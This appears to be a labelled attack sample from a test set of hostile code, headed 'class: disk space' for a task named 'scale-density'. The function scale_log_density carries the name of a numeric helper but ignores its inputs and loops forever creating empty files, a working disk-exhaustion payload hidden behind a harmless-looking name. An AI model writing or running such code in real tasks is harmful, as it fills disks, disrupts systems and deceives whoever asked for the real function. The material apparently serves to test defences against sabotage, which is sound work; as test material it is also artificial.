# class: disk space
# attack: makes empty files without end
# task: 00_mini/scale-density
# form: cell

def scale_log_density(x, a):
    n = 0
    while True:
        open(f'f{n}', 'w').close()
        n += 1
